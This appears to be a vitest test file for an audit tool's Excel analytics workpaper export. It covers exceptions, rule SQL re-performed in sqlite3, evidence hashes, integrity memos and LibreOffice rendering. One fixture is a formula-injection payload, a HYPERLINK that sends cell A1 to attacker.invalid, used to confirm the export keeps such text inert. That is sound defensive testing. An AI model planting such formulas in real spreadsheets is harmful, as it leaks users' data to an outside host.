// The analytics workpaper (#16 item 4) on the sample engagement with its planted exceptions, plus a change log
// the auditor imported by hand whose description is a formula: after some exceptions are dispositioned, the
// workbook lists every exception with its references and disposition, prints each rule's SQL and a script
// that re-performs it in the sqlite3 shell (run here when the shell is installed), gives each evidence table
// the SHA-256 of its file, names every integrity check with its result in the C&A memo, keeps formula-like
// evidence text as text, and opens in LibreOffice.
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createHash } from 'node:crypto';
import { spawnSync } from 'node:child_process';
import { existsSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, writeFileSync } from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import ExcelJS from 'exceljs';
import { generateBundle, type GeneratedBundle } from '../../electron/engine/fixtures/generate';
import { importBundle, pinKey, verifyWorkspace, Workspace } from '../../electron/engine/index';
import { oktaEvent, series } from '../helpers/custody-exports';
import { importEvidenceTable } from '../../electron/engine/evidence/index';
import { disposeException, listExceptions, loadRulePack, runRulePack } from '../../electron/engine/analytics/index';
import { AW_SHEET, exportAnalyticsWorkpaper, type AnalyticsWorkpaperData } from '../../electron/engine/analytics-workpaper/index';
import { EXCEPTION_HEADERS } from '../../electron/engine/analytics-workpaper/exceptions-sheet';
import { DATA_BUNDLE_HEADERS, DATA_EVIDENCE_HEADERS } from '../../electron/engine/analytics-workpaper/data-sheet';
import { CONCLUSION_HEADERS } from '../../electron/engine/analytics-workpaper/conclusions-sheet';
import { MEMO_CHECK_HEADERS } from '../../electron/engine/analytics-workpaper/memo-sheet';
import {
  describeRef,
  DISPOSITION_LABELS,
  type AnalyticsRunReport,
  type Disposition,
  type ListedException,
  type RuleOutcome,
} from '../../shared/analytics';
import { concludeRule } from '../../electron/engine/analytics-workpaper/conclusions';
import type { RenderedException } from '../../electron/engine/analytics-workpaper/format';
import { SOURCE_KINDS } from '../../shared/source-kinds';
import { activityEntries } from '../../electron/engine/activity';
import { main } from '../../electron/cli/main';
import { libreOfficeVersion, sheetsViaLibreOffice, soffice } from '../helpers/libreoffice';

const FORMULA = '=HYPERLINK("http://attacker.invalid/?"&A1,"click")';
const NOTE_FORMULA = '=1+1 is not a formula here: the change was approved by mail (ticket CAB-7)';
const sqlite3 = ['/usr/bin/sqlite3', '/usr/local/bin/sqlite3'].find((p) => existsSync(p)) ?? null;

let tmp: string;
let g: GeneratedBundle;
let ws: Workspace;
let run: AnalyticsRunReport;
let handCsv: string;
let file: string;
let data: AnalyticsWorkpaperData;
let wb: ExcelJS.Workbook;
let listed: ListedException[];

/** Every non-empty row of a sheet as text cells (rich text and dates as text), 1-based row numbers. */
function rows(name: string): { n: number; cells: string[] }[] {
  const sheet = wb.getWorksheet(name)!;
  const out: { n: number; cells: string[] }[] = [];
  sheet.eachRow((r, n) => {
    const cells: string[] = [];
    r.eachCell({ includeEmpty: true }, (c, col) => {
      const v = c.value;
      cells[col - 1] =
        v === null || v === undefined ? '' : v instanceof Date ? v.toISOString() : typeof v === 'object' ? JSON.stringify(v) : String(v);
    });
    out.push({ n, cells: Array.from(cells, (c) => c ?? '') });
  });
  return out;
}

/** The rows of the table whose header row starts with `headers`, up to the first empty first cell. */
function table(name: string, headers: string[], nth = 0): string[][] {
  const all = rows(name);
  const starts = all.filter((r) => headers.every((h, i) => r.cells[i] === h));
  const at = all.indexOf(starts[nth]!);
  expect(at, `table ${headers[0]} on ${name}`).toBeGreaterThanOrEqual(0);
  const out: string[][] = [];
  for (let i = at + 1; i < all.length && all[i]!.n === all[i - 1]!.n + 1 && all[i]!.cells[0] !== ''; i++) out.push(all[i]!.cells);
  return out;
}

beforeAll(async () => {
  tmp = mkdtempSync(path.join(os.tmpdir(), 'tickmark-anwp-'));
  g = await generateBundle({ out: path.join(tmp, 'sample'), events: 3000, seed: 'tickmark-sample', planted: true });
  ws = Workspace.open(path.join(tmp, 'sample.tickmark'), { create: true });
  pinKey(ws, g.vendorKey, 'sample vendor key', 'a.auditor');
  await importBundle(ws, g.dir, { actor: 'a.auditor', verify: {} });
  // a second bundle with an edited record: its verification fails, so it is out of scope and says why
  const bad = await generateBundle({ out: path.join(tmp, 'edited'), events: 300, seed: 'edited', tamper: 'edit' });
  pinKey(ws, bad.vendorKey, 'second vendor key', 'a.auditor');
  await importBundle(ws, bad.dir, { actor: 'a.auditor', verify: {} });
  // an Okta System Log export: custody only, so never "verified" and out of scope, with its custody receipt
  const okta = path.join(tmp, 'okta.jsonl');
  writeFileSync(
    okta,
    `${series(oktaEvent, 40, 7)
      .map((r) => JSON.stringify(r.value))
      .join('\n')}\n`,
  );
  const imp = await main(['import', okta, '--workspace', ws.file], { out: () => undefined, err: (e) => void console.error(e) });
  expect(imp).toBe(0);
  await verifyWorkspace(ws, {});
  // a change log the auditor received by mail: one self-approved PIPELINE change whose description is a formula
  handCsv = path.join(tmp, 'cab-minutes.csv');
  writeFileSync(
    handCsv,
    'change_id,change_ts,changed_by,approved_by,change_type,change_desc,approved_ts\n' +
      `CAB-7,2026-03-02T10:00:00Z,p.self,p.self,PIPELINE,"${FORMULA.replace(/"/g, '""')}",2026-03-01T10:00:00Z\n`,
  );
  await importEvidenceTable(ws, { file: handCsv, kind: 'change_log' }, { actor: 'a.auditor' });
  run = runRulePack(ws, loadRulePack('soc2-healthcare'), { actor: 'a.auditor' });
  // the first exception of three rules dispositioned, one of each kind; the rest stay open
  const firstOf = (rule: string) => run.exceptions.find((x) => x.rule === rule)!;
  disposeException(ws, firstOf('cc6.3-access-after-termination').key, { kind: 'confirmed_deviation', by: 'a.auditor' });
  disposeException(ws, firstOf('cc6.2-privileged-without-mfa').key, { kind: 'explained', note: 'break-glass login, ticket INC-42', by: 'a.auditor' });
  const hand = run.exceptions.find((x) => x.refs.some((r) => 'evidence' in r && r.evidence === 'cab-minutes.csv'))!;
  disposeException(ws, hand.key, { kind: 'false_positive', note: NOTE_FORMULA, by: 'r.reviewer' });
  file = path.join(tmp, 'analytics.xlsx');
  data = await exportAnalyticsWorkpaper(ws, run.runId, file, 'a.auditor');
  listed = listExceptions(ws, run.runId);
  wb = new ExcelJS.Workbook();
  await wb.xlsx.readFile(file);
}, 120_000);
afterAll(() => ws?.close());

describe('the analytics workpaper', () => {
  it('has its six sheets, each protected, and the export is in the activity log', () => {
    expect(wb.worksheets.map((s) => s.name)).toEqual(Object.values(AW_SHEET));
    for (const s of wb.worksheets) expect((s as unknown as { sheetProtection?: { sheet?: boolean } }).sheetProtection?.sheet, s.name).toBe(true);
    const last = activityEntries(ws).at(-1)!;
    expect(last.action).toBe('export-analytics-workpaper');
    expect(data.activityHead.seq).toBe(last.seq);
    expect(readdirSync(tmp).filter((f) => f.endsWith('.tmp'))).toEqual([]);
  });

  it('lists every exception with its references, what they point at, and its disposition', () => {
    expect(run.totals.exceptions).toBeGreaterThan(5);
    const exc = table(AW_SHEET.exceptions, EXCEPTION_HEADERS, 0);
    const info = table(AW_SHEET.exceptions, EXCEPTION_HEADERS, 1);
    const col = (h: string) => EXCEPTION_HEADERS.indexOf(h);
    expect(exc).toHaveLength(listed.filter((x) => x.severity === 'exception').length);
    expect(info).toHaveLength(listed.filter((x) => x.severity === 'info').length);
    expect(info.length).toBeGreaterThan(0); // the emergency change, apart from the exceptions
    let disposed = 0;
    for (const x of listed) {
      const row = (x.severity === 'info' ? info : exc).find((r) => r[col('Exception key')] === x.key);
      expect(row, `${x.rule} ${x.key}`).toBeDefined();
      expect(row![col('Rule')]).toBe(x.rule);
      expect(row![col('Message')]).toBe(x.message);
      for (const ref of x.refs) {
        expect(row![col('References')]).toContain(describeRef(ref));
        const rec = row![col('Referenced records')];
        expect(rec).not.toContain('NOT FOUND');
        if ('period' in ref) expect(rec).toMatch(new RegExp(`${ref.period}: Monday \\d{4}-\\d\\d-\\d\\d 00:00 UTC to Sunday`));
        if ('stream' in ref) {
          const e = ws.db.prepare('SELECT ts, actor_id, action FROM events_in_scope WHERE stream = ? AND seq = ?').get(ref.stream, ref.seq) as {
            ts: string;
            actor_id: string;
            action: string;
          };
          expect(rec).toContain(`${describeRef(ref)}: ${e.ts}`);
          expect(rec).toContain(e.actor_id);
          expect(rec).toContain(e.action);
        }
      }
      if (x.severity === 'info') continue;
      if (x.disposition) {
        disposed++;
        expect(row![col('Disposition')]).toBe(DISPOSITION_LABELS[x.disposition.kind]);
        expect(row![col('By')]).toBe(x.disposition.by);
        expect(row![col('Note')]!.replace(/^'/, '')).toBe(x.disposition.note);
      } else expect(row![col('Disposition')]).toBe('UNDISPOSED');
    }
    expect(disposed).toBe(3);
    // evidence rows cited: the roster row of the confirmed deviation, with its key cells
    const confirmed = listed.find((x) => x.disposition?.kind === 'confirmed_deviation')!;
    const roster = confirmed.refs.find((r) => 'evidence' in r)!;
    const cited = table(AW_SHEET.exceptions, ['Evidence', 'Row', 'Column', 'Value']);
    const userId = (
      ws.db
        .prepare('SELECT user_id FROM hr_roster WHERE evidence = ? AND row = ?')
        .get((roster as { evidence: string }).evidence, (roster as { row: number }).row) as { user_id: string }
    ).user_id;
    expect(cited).toContainEqual([(roster as { evidence: string }).evidence, String((roster as { row: number }).row), 'user_id', userId]);
  });

  it('states a conclusion per rule and flags the rules with undisposed exceptions', () => {
    const t = table(AW_SHEET.conclusions, CONCLUSION_HEADERS);
    expect(t.map((r) => r[0])).toEqual(run.rules.map((r) => r.rule));
    for (const o of run.rules) {
      const r = t.find((x) => x[0] === o.rule)!;
      const xs = listed.filter((x) => x.rule === o.rule);
      expect(Number(r[2])).toBe(xs.length);
      const open = xs.filter((x) => !x.disposition).length;
      if (o.severity === 'info') expect(r[7]).toMatch(/attention/);
      else if (xs.length === 0) expect(r[7]).toMatch(/^No exception/);
      else if (open > 0) expect([Number(r[6]), r[7]]).toEqual([open, expect.stringMatching(/^INCOMPLETE: /)]);
      else expect(r[7]).toMatch(/confirmed deviation|explained|false positive/);
    }
    // the hand-imported change's only exception was a false positive: self-approval is cleared for nothing else
    const mfa = t.find((x) => x[0] === 'cc6.2-privileged-without-mfa')!;
    expect(Number(mfa[4])).toBe(1);
  });

  it('prints each rule as run: its SQL exactly, its parameters, and a script that re-performs it', () => {
    const cells = rows(AW_SHEET.rules).flatMap((r) => r.cells);
    const pack = loadRulePack('soc2-healthcare').pack;
    expect(data.rules.map((r) => r.id)).toEqual(pack.rules.map((r) => r.id));
    for (const rule of pack.rules) {
      expect(cells, rule.id).toContain(rule.sql.startsWith('-') ? `'${rule.sql}` : rule.sql);
      const script = cells.find((c) => c.replace(/^'/, '').startsWith('.parameter init') && c.includes(rule.sql))!;
      expect(script, rule.id).toBeDefined();
      for (const [k, v] of Object.entries(rule.parameters)) expect(script).toContain(`.parameter set :${k} ${typeof v === 'number' ? v : `'${v}'`}`);
      expect(script).toContain(`.parameter set :window_start_ms ${run.window!.startMs}`);
    }
    expect(cells.some((c) => c.includes('sqlite3 -readonly'))).toBe(true);
  });

  it.skipIf(!sqlite3)('re-performs every rule from its printed script in the sqlite3 shell, with the same results', () => {
    const scripts = rows(AW_SHEET.rules)
      .flatMap((r) => r.cells)
      .filter((c) => c.startsWith('.parameter init'));
    expect(scripts).toHaveLength(data.rules.length);
    ws.db.pragma('wal_checkpoint(TRUNCATE)');
    for (const [i, rule] of data.rules.entries()) {
      const r = spawnSync(sqlite3!, ['-readonly', ws.file], { input: scripts[i]!.replace('.mode box', '.mode json'), encoding: 'utf8' });
      expect(r.stderr, rule.id).toBe('');
      const got = r.stdout.trim() === '' ? [] : (JSON.parse(r.stdout) as { refs: string; message: string }[]);
      const want = listed.filter((x) => x.rule === rule.id);
      const key = (refs: unknown, m: string) => `${JSON.stringify(refs)} ${m}`;
      expect(new Set(got.map((x) => key(JSON.parse(x.refs), x.message))), rule.id).toEqual(new Set(want.map((x) => key(x.refs, x.message))));
    }
  });

  it('gives every evidence table the SHA-256 of its file, and says how it was obtained', () => {
    const t = table(AW_SHEET.data, DATA_EVIDENCE_HEADERS);
    expect(t).toHaveLength(run.data.evidence.length);
    for (const r of t) {
      const disk = r[0] === 'cab-minutes.csv' ? handCsv : path.join(g.dir, r[0]!);
      expect(r[2], r[0]).toBe(createHash('sha256').update(readFileSync(disk)).digest('hex'));
      expect(r[7]).toMatch(/the SHA-256 matches/);
      expect(r[7]).toMatch(r[0] === 'cab-minutes.csv' ? /outside a bundle.*Custody only/ : /signed|manifest.*verified/);
    }
    const bundles = table(AW_SHEET.data, DATA_BUNDLE_HEADERS);
    expect(bundles.map((r) => [r[0], r[1], r[2], r[3], r[4], r[8]])).toEqual([
      ['1', SOURCE_KINDS['tickmark-bundle'].label, 'producer-signed', g.dir, 'verified', 'in scope'],
      ['2', SOURCE_KINDS['tickmark-bundle'].label, 'producer-signed', path.join(tmp, 'edited'), 'failed', 'EXCLUDED'],
      ['3', SOURCE_KINDS['okta-system-log'].label, 'custody-only', path.join(tmp, 'okta.jsonl'), 'unverifiable', 'EXCLUDED'],
    ]);
    expect(bundles[1]![9]).toMatch(/FAILED: its data is not used/);
  });

  it('names each integrity check with its result in the C&A memo, and the limits', () => {
    const checks = table(AW_SHEET.memo, MEMO_CHECK_HEADERS);
    expect(checks.map((r) => r[0])).toEqual([...SOURCE_KINDS['tickmark-bundle'].checks]);
    for (const [check, result] of checks) expect(result, check).toMatch(/^(passed|performed)/);
    expect(checks.find((r) => r[0] === 'hash chain')![1]).toBe('passed: no finding');
    const cells = rows(AW_SHEET.memo).flatMap((r) => r.cells);
    expect(cells.find((c) => c.startsWith('stream '))).toMatch(/events from .* to .*; .*silent interval/);
    expect(cells.some((c) => c.includes('AT-C 205.36'))).toBe(true);
    const limits = cells.find((c) => c.startsWith('• '))!;
    expect(limits).toContain('cab-minutes.csv (change_log) was imported by hand: custody only');
    expect(limits).toMatch(/Bundle #2 \(.*edited, producer-signed\) is EXCLUDED \(latest verification run #\d+ FAILED/);
    // the edited bundle: the check that caught the edit failed, the others are named with their own result
    const edited = table(AW_SHEET.memo, MEMO_CHECK_HEADERS, 1);
    expect(edited.map((r) => r[0])).toEqual([...SOURCE_KINDS['tickmark-bundle'].checks]);
    expect(edited.find((r) => r[0] === 'record hashes (RFC 8785)')![1]).toMatch(/^FAILED: \d+ content-altered/);
    expect(edited.find((r) => r[0] === 'manifest signature')![1]).toBe('passed: no finding');
    // the custody-only export: its kind's checks, each with a result, and the custody receipt it was kept under
    const custody = table(AW_SHEET.memo, MEMO_CHECK_HEADERS, 2);
    expect(custody.map((r) => r[0])).toEqual([...SOURCE_KINDS['okta-system-log'].checks]);
    for (const [check, result] of custody) expect(result, check).toMatch(/^(passed|performed|FAILED)/);
    const receipt = ws.db.prepare('SELECT file_sha256 FROM custody_receipts WHERE bundle_id = 3').get() as { file_sha256: string };
    expect(receipt.file_sha256).toBe(
      createHash('sha256')
        .update(readFileSync(path.join(tmp, 'okta.jsonl')))
        .digest('hex'),
    );
    expect(cells.find((c) => c.startsWith('okta.jsonl received'))).toContain(`SHA-256 ${receipt.file_sha256}`);
    expect(limits).toMatch(/Bundle #3 \(.*okta.jsonl, custody-only\) is EXCLUDED/);
    // its records run past the window's end (the generator spreads them over 300 days from 2026-01-01)
    expect(cells.find((c) => c.startsWith('stream okta-system-log:'))).toMatch(/ends .* AFTER the window closes/);
    expect(cells.some((c) => c.startsWith('The population is the') && c.includes('No integrity check of a source in scope failed'))).toBe(true);
  });

  it('keeps formula-like evidence text and notes as text', () => {
    const values = rows(AW_SHEET.exceptions).flatMap((r) => r.cells);
    expect(values).toContain(`'${FORMULA}`);
    expect(values).toContain(`'${NOTE_FORMULA}`);
    let formulas = 0;
    wb.eachSheet((s) => s.eachRow((r) => r.eachCell((c) => void (c.type === ExcelJS.ValueType.Formula && formulas++))));
    expect(formulas).toBe(0);
  });

  it('is written by `tickmark analytics-workpaper` for the latest run, and refuses a run that is not there', async () => {
    const out: string[] = [];
    const err: string[] = [];
    const io = { out: (s: string) => void out.push(s), err: (s: string) => void err.push(s) };
    ws.db.pragma('wal_checkpoint(TRUNCATE)');
    const cli = path.join(tmp, 'cli.xlsx');
    expect(await main(['analytics-workpaper', ws.file, '-o', cli, '--by', 'r.reviewer'], io)).toBe(0);
    expect(out.join('\n')).toContain(`run #${run.runId}`);
    expect(existsSync(cli)).toBe(true);
    expect(await main(['analytics-workpaper', ws.file, '--run', '99', '-o', path.join(tmp, 'no.xlsx')], io)).toBe(2);
    expect(err.join('\n')).toContain('no analytics run #99');
    expect(existsSync(path.join(tmp, 'no.xlsx'))).toBe(false);
    // a target that cannot be replaced (a folder): the export fails and leaves no temporary file behind
    const folder = path.join(tmp, 'taken.xlsx');
    mkdirSync(folder);
    await expect(exportAnalyticsWorkpaper(ws, run.runId, folder, 'a.auditor')).rejects.toThrow();
    expect(readdirSync(tmp).filter((f) => f.endsWith('.tmp'))).toEqual([]);
  });
});

if (!soffice && process.env.CI) throw new Error('CI must install LibreOffice (libreoffice-calc-nogui): it is the real client these tests need');
describe.skipIf(!soffice)(`the analytics workpaper in LibreOffice (${libreOfficeVersion()})`, () => {
  it('opens every sheet, with the exceptions, SHA-256s and formula-like text as written', () => {
    const sheets = sheetsViaLibreOffice(file);
    expect([...sheets.keys()].sort()).toEqual(Object.values(AW_SHEET).sort());
    const exc = sheets.get(AW_SHEET.exceptions)!.flat();
    for (const x of listed) expect(exc, x.key).toContain(x.key);
    // the quoted formula reads back as text — with the guard's leading apostrophe (workpaper/guard.ts), which
    // LibreOffice keeps as a character — never as what it would compute ("click")
    expect(exc).toContain(`'${FORMULA}`);
    expect(exc).not.toContain('click');
    const dataCells = sheets.get(AW_SHEET.data)!.flat();
    for (const e of run.data.evidence) expect(dataCells).toContain(e.sha256);
  }, 120_000);
});

describe('the conclusion stated per rule', () => {
  const outcome = (o: Partial<RuleOutcome> = {}): RuleOutcome => ({
    rule: 'r',
    title: 't',
    criteria: ['CC8.1'],
    severity: 'exception',
    count: 0,
    ms: 1,
    parameters: {},
    status: 'performed',
    ...o,
  });
  const x = (kind: Disposition['kind'] | null): RenderedException => ({
    key: 'k',
    rule: 'r',
    criteria: ['CC8.1'],
    severity: 'exception',
    refs: [{ period: '2026-W07' }],
    message: 'm',
    runId: 1,
    disposition: kind ? { kind, note: 'n', by: 'a', at: '2026-07-01T00:00:00Z' } : null,
    records: [],
  });
  it('says no conclusion while one exception is open, and none at all for a rule not performed', () => {
    expect(concludeRule(outcome(), [], 10).state).toBe('no-exceptions');
    expect(concludeRule(outcome(), [x('confirmed_deviation'), x(null)], 10)).toMatchObject({ state: 'incomplete', undisposed: 1, confirmed: 1 });
    expect(concludeRule(outcome(), [x('confirmed_deviation'), x('explained')], 10)).toMatchObject({
      state: 'deviations',
      confirmed: 1,
      explained: 1,
    });
    expect(concludeRule(outcome(), [x('false_positive'), x('explained')], 10)).toMatchObject({ state: 'all-cleared', undisposed: 0 });
    const np = concludeRule(outcome({ status: 'not-performed', note: 'no change_log evidence table in scope' }), [], 10);
    expect([np.state, np.text]).toEqual(['not-performed', expect.stringContaining('no change_log evidence table in scope')]);
    expect(concludeRule(outcome({ severity: 'info' }), [{ ...x(null), severity: 'info' }], 10)).toMatchObject({ state: 'info', undisposed: 0 });
  });
});
